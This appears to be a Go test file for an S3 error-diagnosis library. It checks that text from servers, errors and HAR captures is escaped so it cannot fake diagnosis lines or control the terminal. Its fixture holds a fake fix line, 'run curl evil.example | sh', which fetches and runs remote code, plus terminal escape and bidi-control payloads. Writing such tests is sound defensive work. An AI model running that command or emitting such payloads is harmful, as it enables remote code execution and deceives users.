package diagnose_test

import (
	"bytes"
	"errors"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/s3safe/s3safe-go/s3safe/diagnose"
)

// fakeLine tries to make up a cause, and to control the terminal.
const fakeLine = "no\n1. certain: the bucket was moved (s3:moved)\n   fix:    run curl evil.example | sh \u009b31m\u202e\u2066\u2028"

// harmless fails the test if a text from outside begins a line, or controls the
// terminal.
func harmless(t *testing.T, where, text string) {
	t.Helper()
	for _, line := range strings.Split(text, "\n") {
		if strings.HasPrefix(line, "1. certain: the bucket was moved") || strings.HasPrefix(strings.TrimSpace(line), "fix:    run curl") {
			t.Errorf("%s: a made-up line: %s", where, line)
		}
		for _, r := range line {
			if !strconv.IsPrint(r) {
				t.Errorf("%s: %U is printed: %q", where, r, line)
				break
			}
		}
	}
}

func TestPrintedTextIsEscaped(t *testing.T) {
	escapes := strings.ReplaceAll(fakeLine, "\u009b", "\x1b]0;title\x07\x1b[2J")
	c, err := quoted(t, func(*http.Request) string { return fakeLine })
	x := diagnose.Explain(err, c)
	harmless(t, "Explain", x.String())
	harmless(t, "message", x.Message)
	harmless(t, "capture", c.Answer.Message)
	harmless(t, "error", diagnose.Explain(errors.New(escapes), nil).String())
	harmless(t, "S3Error", (&diagnose.S3Error{Code: escapes, Message: escapes}).Error())
	harmless(t, "document", diagnose.Explain(&diagnose.S3Error{Code: "InvalidRequest", Message: escapes, ArgumentName: escapes, HeaderName: escapes, Region: escapes}, nil).String())
	harmless(t, "FileError", (&diagnose.FileError{File: escapes, Line: 1, Problem: escapes, Place: escapes}).Error())
	harmless(t, "IncompleteCapture", (&diagnose.IncompleteCapture{Operation: "x", Members: []string{escapes}}).Error())
	harmless(t, "OpenUploadError", (&diagnose.OpenUploadError{Bucket: escapes, Key: escapes, UploadID: escapes, Err: errors.New(escapes)}).Error())
	harmless(t, "Replayed", (&diagnose.Replayed{Operation: escapes, Differences: []diagnose.ReplayDifference{{What: escapes, Before: escapes, After: escapes}}, Unknown: []string{escapes}}).String())
	harmless(t, "Minimal", (&diagnose.Minimal{Operation: escapes, Code: escapes, Message: escapes, Members: []string{escapes}, Cleared: []string{escapes},
		Cures: []diagnose.Cure{{Member: escapes, Code: escapes}}}).String())
	harmless(t, "Discrepancy", diagnose.Discrepancy{What: escapes, Expected: escapes, Got: escapes, Why: escapes, Fix: escapes, Codes: []string{escapes}, Rules: []string{escapes}}.String())
	harmless(t, "Differences", (&diagnose.Differences{List: []diagnose.Difference{{Group: "member", Name: escapes, A: escapes, B: escapes, Rules: []string{escapes}}}, Uncompared: []string{escapes}}).String())
	harmless(t, "Explanation", (&diagnose.Explanation{Operation: escapes, Code: escapes, Message: escapes, RequestID: escapes, HostID: escapes, Next: []string{escapes},
		Causes: []diagnose.Cause{{ID: escapes, Certainty: diagnose.Certainty(escapes), Title: escapes, Fits: escapes, Why: escapes, Fix: escapes, Sources: []string{escapes}}}}).String())

	list, err := diagnose.ParseHAR("f", strings.NewReader(`{"log":{"entries":[{"request":{"method":"GET","url":"https://b.s3.amazonaws.com/k","headers":[`+
		`{"name":"If-Match","value":"\u001b[31m\n1. certain: the bucket was moved"},{"name":"X-Amz-Acl","value":"\u009b\u202e"}]},`+
		`"response":{"status":400,"headers":[{"name":"Server","value":"\u001b[2J\n1. certain: the bucket was moved"}],"content":{"text":"x"}}}]}}`))
	if err != nil {
		t.Fatal(err)
	}
	harmless(t, "HAR", diagnose.Explain(nil, list[0]).String())
	other := *list[0]
	other.Sent.Header = map[string][]string{}
	harmless(t, "Diff", diagnose.Diff(list[0], &other).String())
	var b bytes.Buffer
	if err := diagnose.WriteJSON(&b, list...); err != nil {
		t.Fatal(err)
	}
	harmless(t, "JSON", strings.TrimSuffix(b.String(), "\n"))
	again, err := diagnose.ReadJSON("f", &b)
	if err != nil || again[0].Sent.Header["X-Amz-Acl"][0] != "\u009b\u202e" {
		t.Errorf("escaping changes the value: %v", err)
	}
}
